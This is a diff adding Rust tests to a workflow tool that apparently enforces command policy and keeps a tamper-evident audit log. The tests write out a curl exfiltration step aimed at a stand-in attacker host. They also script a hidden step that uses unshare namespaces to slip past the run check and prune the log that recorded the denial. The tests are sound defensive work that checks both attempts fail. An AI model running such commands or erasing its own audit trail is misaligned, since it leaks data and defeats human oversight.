@@ -626,3 +626,72 @@ fn verify_head_fails_when_the_heads_record_lies_in_a_pruned_segment() {
     assert_eq!(code, 1, "a log replaced by an invented segment matched the head: {text}");
     assert!(text.contains("record 1 of the anchor is not in the log (it lies in pruned segment 0"), "{text}");
 }
+
+/// Appends `count` records after the log's head with the chain's hashes, as ACAS would.
+fn append_records(conn: &rusqlite::Connection, count: i64) {
+    use acas::store::audit::record_hash;
+    let (head, mut prev): (i64, String) =
+        conn.query_row("SELECT seq, hash FROM audit_head", [], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
+    let at: i64 = conn.query_row("SELECT MAX(at_ms) FROM audit_log", [], |r| r.get(0)).unwrap();
+    let tx = conn.unchecked_transaction().unwrap();
+    for seq in head + 1..=head + count {
+        let detail = format!("{{\"n\":{seq}}}");
+        let hash = record_hash(&prev, at, "mcp_tool_call", "x", "call", &detail);
+        tx.execute(
+            "INSERT INTO audit_log (seq, at_ms, kind, actor, subject, detail, prev_hash, hash) \
+             VALUES (?1, ?2, 'mcp_tool_call', 'x', 'call', ?3, ?4, ?5)",
+            rusqlite::params![seq, at, detail, prev, hash],
+        )
+        .unwrap();
+        tx.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
+        prev = hash;
+    }
+    tx.commit().unwrap();
+}
+
+/// A run cannot prune the record of what it did: `acas audit prune` refuses inside a run, and
+/// records younger than a day are never pruned, even by a step that hid from the run check in
+/// namespaces of its own, nor by a person who asks for less.
+#[test]
+fn a_run_cannot_prune_its_own_audit_trail() {
+    let dir = workspace();
+    let root = dir.path();
+    let acas_path = acas_bin();
+    let acas_path = acas_path.display();
+    std::fs::create_dir_all(root.join(".acas/workflows")).unwrap();
+    std::fs::write(root.join(".acas/policy.yaml"), "defaults:\n  commands:\n    deny: [\"curl\"]\n").unwrap();
+    std::fs::write(
+        root.join(".acas/workflows/exfil.yaml"),
+        "name: exfil\nsteps:\n  - { id: exfil, run: [curl, \"http://attacker.example/\"] }\n",
+    )
+    .unwrap();
+    let (code, _, _) = acas(root, &["workflow", "run", "exfil"]);
+    assert_ne!(code, 0, "curl was not denied");
+    let denied = |root: &Path| ok(root, &["audit", "--limit", "100000"]).contains("run `curl");
+    assert!(denied(root), "the denial was not recorded");
+    // Padding after the denial, so that the denial's segment could go.
+    append_records(&db(root), 1100);
+    create(root, "after the padding", &[]);
+
+    std::fs::write(
+        root.join(".acas/workflows/prune.yaml"),
+        format!(
+            "name: prune\nsteps:\n  - id: prune\n    run: [\"{acas_path}\", audit, prune, --older-than, 1s]\n  - id: hidden\n    if: always()\n    run: [unshare, -Urpf, --mount-proc, env, -u, ACAS_TREE, \"{acas_path}\", audit, prune, --older-than, 1d]\n"
+        ),
+    )
+    .unwrap();
+    let (code, stdout, stderr) = acas(root, &["workflow", "run", "prune"]);
+    let text = format!("{stdout}{stderr}");
+    assert_ne!(code, 0, "{text}");
+    assert!(text.contains("a workflow run cannot prune the audit log"), "{text}");
+    assert!(text.contains("pruned 0 segments"), "the hidden step pruned fresh records: {text}");
+    assert!(denied(root), "the run pruned the record of its denial");
+
+    let (code, _, stderr) = acas(root, &["audit", "prune", "--older-than", "1s"]);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("--older-than 1s is below the minimum age of 1d"), "{stderr}");
+    assert_eq!(ok(root, &["audit", "prune", "--older-than", "1d"]).trim(), "pruned 0 segments");
+    assert!(denied(root));
+    let (code, text) = verify(root, &[]);
+    assert_eq!(code, 0, "{text}");
+}
